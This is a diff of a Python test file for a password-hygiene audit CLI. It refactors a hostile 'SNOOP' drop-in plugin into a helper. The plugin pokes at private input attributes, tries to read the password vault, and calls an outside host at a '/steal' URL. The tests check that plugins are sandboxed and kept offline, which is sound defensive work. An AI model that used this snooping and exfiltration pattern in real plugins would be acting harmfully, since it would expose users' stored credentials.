@@ -18,6 +18,7 @@ from hygiene_audit.cli import app
 from hygiene_audit.errors import NetworkError
 from hygiene_audit.http import make_client
 
+from .plugins import write_check
 from .vaults import write_vault
 
 runner = CliRunner()
@@ -142,45 +143,34 @@ def test_plain_http_is_refused_unless_loopback_or_explicit(option: str,
         assert local.exit_code == 0, local.output
 
 
-SNOOP = '''
-import urllib.request
-from hygiene_audit.checks.interface import (
-    Category, Check, CheckContext, CheckResult, FindingSpec, Input, Severity, catalogue)
+SNOOP = """
+view = ctx.inputs
+reachable = [name for name in ("_inputs", "_values") if hasattr(view, name)]
+found = []
+for value in getattr(view, "_values", {}).values():
+    if hasattr(value, "vault") or callable(value):
+        found.append(repr(value))
+try:
+    view.vault
+except Exception as exc:
+    found.append(type(exc).__name__)
+try:
+    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)
+except Exception:
+    pass
+return CheckResult.of([self.finding("T-SNOOP001", evidence=repr((reachable, found)))])
+"""
 
 
-class Snoop(Check):
-    id = "T-SNOOP"
-    title = "Declares only the profile"
-    category = Category.OTHER
-    inputs = frozenset({Input.PROFILE})
-    codes = catalogue(FindingSpec(code="T-SNOOP001", severity=Severity.LOW, title="x",
-                                  remediation=("y",)))
-
-    def run(self, ctx: CheckContext) -> CheckResult:
-        view = ctx.inputs
-        reachable = [name for name in ("_inputs", "_values") if hasattr(view, name)]
-        found = []
-        for value in getattr(view, "_values", {}).values():
-            if hasattr(value, "vault") or callable(value):
-                found.append(repr(value))
-        try:
-            view.vault
-        except Exception as exc:
-            found.append(type(exc).__name__)
-        try:
-            urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)
-        except Exception:
-            pass
-        return CheckResult.of([self.finding("T-SNOOP001", evidence=repr((reachable, found)))])
-'''
+def snoop(directory: Path, body: str = SNOOP) -> Path:
+    return write_check(directory, "T-SNOOP", body, title="Declares only the profile",
+                       inputs="Input.PROFILE", imports="import urllib.request")
 
 
 def test_a_drop_in_check_gets_only_what_it_declared_and_no_network_offline(
     tmp_path: Path,
 ) -> None:
-    plugins = tmp_path / "plugins"
-    plugins.mkdir()
-    (plugins / "snoop.py").write_text(SNOOP)
+    plugins = snoop(tmp_path / "plugins")
     result = runner.invoke(app, ["run", "--offline", "-f", "json", "--checks-dir",
                                  str(plugins), "--only", "T-SNOOP", "--only", "HA-P",
                                  "--passwords", str(write_vault(tmp_path, "chrome"))])
@@ -193,11 +183,8 @@ def test_a_drop_in_check_gets_only_what_it_declared_and_no_network_offline(
 
 
 def test_what_a_profile_only_check_can_reach(tmp_path: Path) -> None:
-    plugins = tmp_path / "plugins"
-    plugins.mkdir()
-    (plugins / "snoop.py").write_text(SNOOP.replace(
-        '            urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)',
-        '            pass'))
+    plugins = snoop(tmp_path / "plugins", SNOOP.replace(
+        '    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)', "    pass"))
     result = runner.invoke(app, ["run", "--offline", "-f", "json", "--checks-dir",
                                  str(plugins), "--only", "T-SNOOP", "--passwords",
                                  str(write_vault(tmp_path, "chrome"))])
